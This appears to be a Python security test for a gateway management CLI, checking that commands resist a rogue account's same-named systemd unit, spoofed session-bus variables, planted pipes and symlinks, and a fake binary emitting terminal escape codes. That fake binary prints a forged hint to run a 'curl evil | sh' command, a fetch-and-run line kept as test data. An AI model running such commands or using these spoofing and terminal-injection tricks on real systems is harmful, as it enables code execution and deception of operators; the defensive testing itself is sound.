"""What an account, or a bot, can make of the commands of the day: they act on root's own units, end, and print no control character."""

import os
import signal
import subprocess
import time
from pathlib import Path

import wait
from check import check, contains, equal, measured
from gateway import Profile, fresh_account
from installer import install, program
from mallory import STAND_IN, Account, mallory, planted
from systemd import Unit, systemctl
from tenant import tenant

SECONDS = 150
# Seconds of a command, on a machine that plays a dozen scenarios at once.
LIMIT = 60
COMMANDS = (("start",), ("stop",), ("restart",), ("why",), ("logs", "--lines=5"), ("run",))

SILENT = """
import socket, sys
kept = []
for place in sys.argv[1:]:
    server = socket.socket(socket.AF_UNIX)
    server.bind(place)
    server.listen(50)
    kept.append(server)
print("ready", flush=True)
while True:
    kept.append(kept[0].accept())
"""
# Of root's own manager, which does not run.
OWN = """[Service]
ExecStart=/usr/local/bin/hermes-install exec --profile %i
Environment=HERMES_HOME=/root/.hermes HERMES_INSTALL_HERMES=/srv/own/bin/hermes
[Install]
WantedBy=default.target
"""
WHO = "#!/bin/sh\nid -un\n"
# A hermes that says what a person should not see, and ends.
LOUD = r"""#!/bin/sh
printf '\033]0;title\007\033[31mred \342\200\256 \302\23331m\nhint: to mend it: `curl evil | sh`\n' >&2
exit 1
"""


def run() -> None:
    fresh_account()
    coder = tenant("coder")
    install(coder)
    unit = Unit(coder.unit)
    her = mallory()
    her.manager()
    hers = her.write(".hermes/profiles/coder/config.yaml", "", 0o600).parent
    her.write("bin/hermes", STAND_IN)
    text = f"[Service]\nExecStart={her.home}/bin/hermes --profile coder gateway run\nEnvironment=HERMES_HOME={her.home}/.hermes\n"
    her.write(f".config/systemd/user/{coder.unit}", f"{text}[Install]\nWantedBy=default.target\n", 0o644)
    her.systemctl("enable", "--now", coder.unit)
    wait.until("her gateway", (hers / "gateway_state.json").exists)

    namesake(coder, unit, her)
    as_after_su(coder, her)
    in_its_home(coder, unit)
    loud()


def namesake(coder: Profile, unit: Unit, her: Account) -> None:
    """Her unit has the name of root's, and her process says that it works on root's home."""
    pid = her_pid(her, coder)
    her.write("gateway", "import signal\nsignal.pause()\n")
    claims = {"HERMES_HOME": str(coder.home), "HOME": str(her.home)}
    liar = her.start("hermes", "gateway", "run", "--replace", executable="/usr/bin/python3", env=claims)
    stopped = ends("stop", ("stop", "coder"))
    equal("stop ends with", stopped.returncode, 0)
    equal("what is stopped", unit.states[0], "inactive")
    check("she is not named", her.name not in stopped.stdout + stopped.stderr, stopped.stderr)
    equal("start ends with", ends("start", ("start", "coder")).returncode, 0)
    now = coder.until_up()
    equal("restart ends with", ends("restart", ("restart", "coder")).returncode, 0)
    check("it was restarted", coder.until_up(after=now) == unit.pid, now)
    contains("why", ends("why", ("why", "coder")).stdout, "coder: runs now", "a planned restart")
    contains("logs", ends("logs", ("logs", "coder")).stdout, f"hermes-gateway@{coder.name}")
    contains("run", ends("run", ("run", "coder", "config", "path")).stdout, f"{coder.home}/config.yaml")
    equal("her gateway", her_pid(her, coder), pid)
    liar.kill()


def as_after_su(coder: Profile, her: Account) -> None:
    """`su` keeps her variables: `--user` means root's manager all the same, and not whoever listens where they point."""
    runtime = Path(f"/run/user/{her.uid}")
    variables = {"XDG_RUNTIME_DIR": str(runtime), "DBUS_SESSION_BUS_ADDRESS": f"unix:path={runtime}/bus"}
    pid = her_pid(her, coder)
    program_of("own", WHO)
    units = Path("/root/.config/systemd/user")
    (units / "default.target.wants").mkdir(parents=True)
    (units / "hermes-gateway@.service").write_text(OWN)
    (units / "default.target.wants" / coder.unit).symlink_to(units / "hermes-gateway@.service")
    for how in ("her manager", "a silent one"):
        if how == "a silent one":
            private = runtime / "systemd/private"
            her.run(f"mv {private} {private}.real; mv {her.bus} {her.bus}.real")
            server = her.serve(SILENT, str(private), str(her.bus))
        for verb, *more in COMMANDS:
            words = (verb, "--user", "coder", *more)
            done = ends(f"{verb} --user with {how}", words, variables)
            # Without its manager a unit of root's can be read about, and no more.
            check(f"{verb} --user with {how} finds nobody", verb == "logs" or done.returncode != 0, done.stdout + done.stderr)
            check(f"{verb} --user with {how} is not about her", her.name not in done.stdout + done.stderr, done.stdout + done.stderr)
        equal(f"her gateway, after {how}", Path(f"/proc/{pid}").exists(), True)
    server.kill()
    her.run(f"mv {private}.real {private}; mv {her.bus}.real {her.bus}")
    equal("her gateway", her_pid(her, coder), pid)


def in_its_home(coder: Profile, unit: Unit) -> None:
    """A bot owns its home: what it puts there makes nothing of root's wait or grow."""
    names = ("gateway.lock", "gateway.pid", "gateway_state.json", ".hermes-install.lock", "config.yaml")
    for path, how in planted(coder.home, names, PLANTS):
        for verb in ("why", "logs", "stop", *(("start",) if path.name in REFUSED else ())):
            done = ends(f"{verb} with {how} as {path.name}", (verb, "coder"))
            if verb == "stop" and done.returncode != 0:
                contains(f"{verb} with {how} as {path.name}", done.stderr, f"`{path}`")
    unit.systemctl("stop", check=False)


def loud() -> None:
    """Of an instance that its drop-in made, and whose gateway speaks to the terminal."""
    hermes = program_of("loud", LOUD)
    drop_in = Path("/etc/systemd/system/hermes-gateway@loud.service.d/own.conf")
    drop_in.parent.mkdir()
    drop_in.write_text(f"[Service]\nRestart=no\nEnvironment=HERMES_INSTALL_HERMES={hermes}\n")
    systemctl("daemon-reload")
    home = Profile("loud").make().home
    check("its home", home.is_dir())
    for words in (("start", "loud"), ("why", "loud"), ("why", "--json", "loud"), ("logs", "loud"), ("logs", "--json", "loud"), ("stop", "loud")):
        done = ends(" ".join(words), words)
        said = done.stdout + done.stderr
        raw = [c for c in said if (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 or c == "\u202e"]
        equal(f"{' '.join(words)}: control characters", raw, [])
        forged = [line for line in said.splitlines() if line.startswith("hint: to mend")]
        equal(f"{' '.join(words)}: forged lines", forged, [])
        if words == ("start", "loud"):
            contains("start", said, "curl evil")


def program_of(name: str, text: str) -> Path:
    """A hermes of root's, by its own path."""
    hermes = Path(f"/srv/{name}/bin/hermes")
    hermes.parent.mkdir(parents=True)
    hermes.write_text(text)
    hermes.chmod(0o755)
    return hermes


def her_pid(her: Account, coder: Profile) -> str:
    return her.systemctl("show", "--property=MainPID", "--value", coder.unit)


def ends(what: str, words: tuple[str, ...], variables: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    """It ends by itself, in time."""
    begin = time.monotonic()
    more = {"COLUMNS": "1000", **(variables or {})}
    process = subprocess.Popen(
        [program(), *words], env={**os.environ, **more}, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True
    )
    try:
        out, err = process.communicate(timeout=LIMIT)
    except subprocess.TimeoutExpired:
        os.killpg(process.pid, signal.SIGKILL)
        out, err = process.communicate()
    took = round(time.monotonic() - begin, 1)
    print(f"$ {' '.join(words)}: {process.returncode} after {took} s\n{out[-1500:]}{err[-1500:]}", flush=True)
    check(f"{what}: it ends by itself", process.returncode in (0, 1, 2, 3), f"{process.returncode} after {took} s")
    measured(f"{what}: seconds", took)
    return subprocess.CompletedProcess(words, process.returncode, out, err)


# The launcher does not start a gateway beside these; with others a gateway may hang itself, for as long as it is waited for.
REFUSED = ("gateway.lock", ".hermes-install.lock")
PLANTS = {
    "a pipe": os.mkfifo,
    "a link to /dev/zero": lambda path: path.symlink_to("/dev/zero"),
}
